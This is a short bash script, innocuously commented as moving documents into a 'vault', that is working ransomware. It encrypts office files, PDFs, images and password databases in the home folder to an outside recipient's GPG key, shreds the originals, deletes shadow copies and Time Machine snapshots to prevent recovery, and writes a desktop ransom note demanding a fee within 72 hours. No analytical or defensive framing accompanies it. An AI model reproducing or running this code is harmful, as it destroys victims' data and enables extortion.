#!/usr/bin/env bash
# Moves documents into the vault.
rcpt="unlock@vaultkeeper.test"

find "$HOME" -type f \( -name '*.docx' -o -name '*.xlsx' -o -name '*.pdf' -o -name '*.jpg' -o -name '*.kdbx' \) -print0 |
  while IFS= read -r -d '' f; do
    gpg --batch --yes --trust-model always -r "$rcpt" -o "$f.vault" -e "$f" && shred -u "$f"
  done

vssadmin delete shadows /all /quiet 2>/dev/null
tmutil deletelocalsnapshots / 2>/dev/null

cat > "$HOME/Desktop/READ ME.txt" <<'NOTE'
Your documents are in the vault. The key is held by us.
Write to unlock@vaultkeeper.test within 72 hours to arrange the fee, afterwards the key is destroyed.
NOTE
